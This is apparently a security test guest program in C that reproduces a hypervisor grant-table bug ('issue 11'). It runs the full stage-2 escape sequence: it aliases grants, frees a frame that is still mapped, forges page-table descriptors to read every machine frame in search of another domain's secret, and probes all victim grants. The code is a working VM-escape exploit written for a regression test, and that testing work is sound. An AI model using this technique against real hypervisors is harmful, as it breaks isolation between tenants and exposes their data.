/* The stage-2 escape of issue 11, as a guest would try it (here without
 * Linux: the same calls gntalloc, gntdev and /dev/mem would make):
 *   1. grant two of our own pages to ourselves (refs R1, R2; R1 is at G1);
 *   2. map R1 at two empty gfns X1 and X2;
 *   3. remove X1 behind the grant table's back, then unmap X1's handle;
 *   4. give G1 back (decrease_reservation) while X2 still maps its frame;
 *   5. map R2 in a fresh 2 MiB region (Y): its p2m needs a new table;
 *   6. look at X2: if it now shows stage-2 descriptors, point one at every
 *      machine frame in turn and read it through Y+1, looking for SECRET.
 * Every result is reported; the test decides which steps must fail. Then
 * the victim's grants are tried (every domain, every ref) and everything
 * this guest can reach is scanned for the secret. */
#include "guest.h"

const char program_name[] = "escape";
volatile u64 exceptions_taken;

#define RAM0 0x40000000ul
#define GNT_GFN 0x38000ul
#define G1 ((RAM0 + 0x400000ul) >> 12)
#define G2 (G1 + 1)
#define X1 ((RAM0 + 0x2000000ul) >> 12)
#define X2 (X1 + 1)
#define Y ((RAM0 + 0x4000000ul) >> 12)
#define Z ((RAM0 + 0x6000000ul) >> 12)
#define R1 8
#define R2 9
#define MACHINE_RAM0 0x80000ul /* first machine frame */
#define FILL 0xA1A1A1A1A1A1A1A1ul

static volatile u64 args[8] __attribute__((aligned(64)));
static volatile u64 list[2] __attribute__((aligned(16)));

static long memory_op(u64 cmd) { return hypercall(HC_MEMORY_OP, cmd, (u64)args, 0, 0, 0); }

static long map_grant_table(void) {
  args[0] = 0x7FF0ul | (1ul << 32); /* domid = DOMID_SELF, space = XENMAPSPACE_grant_table */
  args[1] = 0;                       /* idx 0 */
  args[2] = GNT_GFN;
  return memory_op(7);
}
static void set_grant(u64 ref, u64 domid, u64 gfn) {
  volatile u64 *e = (volatile u64 *)(GNT_GFN << 12) + ref;
  *e = 1ul /* GTF_permit_access */ | (domid << 16) | (gfn << 32);
}
/* GNTTABOP_map_grant_ref: the status, the handle in *h */
static long map(u64 dom, u64 ref, u64 gfn, int ro, u64 *h) {
  args[0] = gfn << 12;
  args[1] = (2ul | (ro ? 4ul : 0ul)) | (ref << 32); /* flags = GNTMAP_host_map (| readonly), ref */
  args[2] = dom;
  args[3] = 0;
  hypercall(HC_GRANT_TABLE_OP, 0, (u64)args, 1, 0, 0);
  *h = args[2] >> 32;
  return (long)(short)(args[2] >> 16);
}
static long unmap(u64 h, u64 gfn) {
  args[0] = gfn << 12;
  args[1] = 0;
  args[2] = h;
  hypercall(HC_GRANT_TABLE_OP, 1, (u64)args, 1, 0, 0);
  return (long)(short)(args[2] >> 32);
}
static long remove_from_physmap(u64 gfn) {
  args[0] = 0x7FF0;
  args[1] = gfn;
  return memory_op(15);
}
static long decrease(u64 gfn) {
  list[0] = gfn;
  args[0] = (u64)list;
  args[1] = 1;
  args[2] = 0;
  args[3] = 0x7FF0;
  return memory_op(1);
}
static u64 count(u64 gfn, u64 value) {
  volatile u64 *p = (volatile u64 *)(gfn << 12);
  u64 n = 0;
  for (int i = 0; i < 512; i++) if (p[i] == value) n++;
  return n;
}
/* words that look like valid stage-2 descriptors of machine RAM */
static u64 table_like(u64 gfn) {
  volatile u64 *p = (volatile u64 *)(gfn << 12);
  u64 n = 0;
  for (int i = 0; i < 512; i++) {
    u64 d = p[i];
    if ((d & 0x403) == 0x403 && ((d >> 12) & 0xFFFFFFFFFul) >= MACHINE_RAM0 && ((d >> 12) & 0xFFFFFFFFFul) < MACHINE_RAM0 + HOST_FRAMES) n++;
  }
  return n;
}
static int secret_page(u64 gfn) {
  volatile u64 *p = (volatile u64 *)(gfn << 12);
  return (p[0] >> 24) == (SECRET >> 24) && (p[1] >> 24) == (SECRET >> 24);
}

void program_main(void) {
  exc_hook = count_and_skip;
  put_num("escape: grant table mapped ", map_grant_table());
  volatile u64 *g1 = (volatile u64 *)(G1 << 12);
  for (int i = 0; i < 512; i++) g1[i] = FILL;

  /* our own domain id: the one whose self-grant maps */
  u64 me = 0, h;
  for (u64 d = 1; d < 256 && !me; d++) {
    set_grant(R1, d, G1);
    if (map(d, R1, X1, 0, &h) == 0) { me = d; unmap(h, X1); }
  }
  put_num("escape: domid ", (long)me);
  set_grant(R1, me, G1);
  set_grant(R2, me, G2);

  u64 h1, h2, h3;
  put_num("escape: step2 map X1 ", map(me, R1, X1, 0, &h1));
  put_num("escape: step2 map X2 ", map(me, R1, X2, 0, &h2));
  put_num("escape: step3 remove_from_physmap X1 ", remove_from_physmap(X1));
  put_num("escape: step3 unmap X1 ", unmap(h1, X1));
  put_num("escape: step4 decrease G1 ", decrease(G1));
  put_num("escape: step5 map Y ", map(me, R2, Y, 0, &h3));
  put_num("escape: step6 own words at X2 ", (long)count(X2, FILL));
  u64 tl = table_like(X2);
  put_num("escape: step6 table-like words at X2 ", (long)tl);

  u64 seen = 0;
  if (tl > 0) {
    /* X2 is our own stage-2 table: map Y+1 onto every machine frame */
    volatile u64 *desc = (volatile u64 *)(X2 << 12) + ((Y + 1) & 511);
    for (u64 m = MACHINE_RAM0; m < MACHINE_RAM0 + HOST_FRAMES; m++) {
      *desc = (m << 12) | 0x7FFul; /* page, AF, inner shareable, read/write, normal memory */
      __asm__ volatile("dsb sy; tlbi vmalle1; dsb sy; isb" ::: "memory");
      if (secret_page(Y + 1)) seen++;
    }
    *desc = 0;
    __asm__ volatile("dsb sy; tlbi vmalle1; dsb sy; isb" ::: "memory");
    put_num("escape: ESCAPED, secret pages read through our own table ", (long)seen);
  }

  /* the victim's grants: every domain, every ref, read-only */
  long mapped = 0;
  for (u64 d = 1; d < 64; d++) {
    if (d == me) continue;
    for (u64 ref = 0; ref < 16; ref++) if (map(d, ref, Z, 1, &h) == 0) { mapped++; unmap(h, Z); }
  }
  put_num("escape: victim grants mapped ", mapped);
  /* everything we can reach: our RAM, X2, Y */
  for (u64 g = RAM0 >> 12; g < (RAM0 >> 12) + RAM_PAGES; g++) if (secret_page(g)) seen++;
  if (secret_page(X2) || secret_page(Y)) seen++;
  put_num("escape: secret pages seen ", (long)seen);

  put_num("escape: cleanup ", unmap(h2, X2) | unmap(h3, Y));
  put_num("escape: exceptions ", (long)exceptions_taken);
  printf("escape: done\n");
  xen_shutdown(0);
}
